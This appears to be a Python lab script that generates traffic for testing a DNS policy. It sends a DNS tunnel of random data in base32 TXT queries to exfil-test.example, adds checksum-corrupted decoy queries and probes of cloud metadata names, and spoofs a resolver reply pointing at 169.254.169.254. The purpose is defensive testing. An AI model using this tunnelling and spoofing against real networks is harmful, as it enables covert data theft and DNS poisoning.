"""decoy.py MODE ROLE - the traffic of one lab.sh case (FINDINGS.md).

MODE v4 or v6: the resolver is 10.57.5.53 or fd57:5::53.
ROLE client (in ewu5c): a dig loop of 30 TXT queries <56 base32 chars>.x.
exfil-test.example through the resolver (a tunnel carrying 1,050 random bytes),
each followed by 4 decoy queries (scapy) for new plain names under the same
domain (www7.exfil-test.example ...) with a wrong UDP checksum (IPv4: the right
one xor 0x0101; IPv6: zero, which udp6 drops), which the resolver's kernel
drops; then decoys for metadata.google.internal and 169.254.169.254.nip.io,
and one straight to the authority (outside: the policy must still judge it).
ROLE second (in ewu5e, a second sandbox host of the agent's): a decoy
response "from the resolver" to the client, news-portal-test.example A
169.254.169.254, with a wrong checksum, which the client's kernel drops.
Every loop is bounded (30 queries, dig +time=2 +tries=1).
"""
import base64
import random
import subprocess
import sys
import time

import socket

from scapy.all import DNS, DNSQR, DNSRR, IP, IPv6, UDP, raw, send

mode, role = sys.argv[1], sys.argv[2]
v6 = mode == "v6"
res = "fd57:5::53" if v6 else "10.57.5.53"
me = {"client": "fd57:5::10" if v6 else "10.57.5.10",
      "second": "fd57:5::11" if v6 else "10.57.5.11"}[role]
rng = random.Random(21)
words = ["www", "mail", "api", "cdn", "static", "img", "login", "shop", "blog", "docs",
         "news", "app", "m", "dev", "status", "help", "media", "assets", "auth", "files"]


def decoy(name, qtype="A", src=None, dst=None, sport=None, dport=53, resp=None):
    ip = IPv6(src=src or me, dst=dst or res) if v6 else IP(src=src or me, dst=dst or res)
    dns = resp if resp is not None else DNS(id=rng.randrange(65536), rd=1,
                                            qd=DNSQR(qname=name, qtype=qtype))
    pkt = ip / UDP(sport=sport or rng.randrange(20000, 60000), dport=dport) / dns
    right = (IPv6 if v6 else IP)(raw(pkt))[UDP].chksum
    pkt[UDP].chksum = 0 if v6 else right ^ 0x0101
    if v6:
        # a raw IPv6 socket of IPPROTO_RAW sends the header as given; the
        # kernel finds the neighbour (scapy's send wants a route)
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
            s.sendto(raw(pkt), (pkt[IPv6].dst, 0))
    else:
        send(pkt, verbose=False)


if role == "client":
    data = bytes(rng.randrange(256) for _ in range(1050))
    b32 = base64.b32encode(data).decode().rstrip("=").lower()
    chunks = [b32[i:i + 56] for i in range(0, len(b32), 56)][:30]
    n = 0
    for c in chunks:
        subprocess.run(["dig", "@" + res, "+time=2", "+tries=1", "+short",
                        c + ".x.exfil-test.example", "TXT"], stdout=subprocess.DEVNULL)
        for _ in range(4):
            decoy("%s%d.exfil-test.example" % (words[n % len(words)], n))
            n += 1
        time.sleep(0.05)
    decoy("metadata.google.internal")
    decoy("169.254.169.254.nip.io")
    # straight to the authority, outside: the policy judges it all the same
    decoy("direct.exfil-test.example", dst="fd57:5::60" if v6 else "10.57.5.60")
else:
    client = "fd57:5::10" if v6 else "10.57.5.10"
    r = DNS(id=4242, qr=1, aa=0, rd=1, ra=1, qd=DNSQR(qname="news-portal-test.example"),
            an=DNSRR(rrname="news-portal-test.example", type="A", ttl=60,
                     rdata="169.254.169.254"))
    decoy(None, src=res, dst=client, sport=53, dport=34567, resp=r)
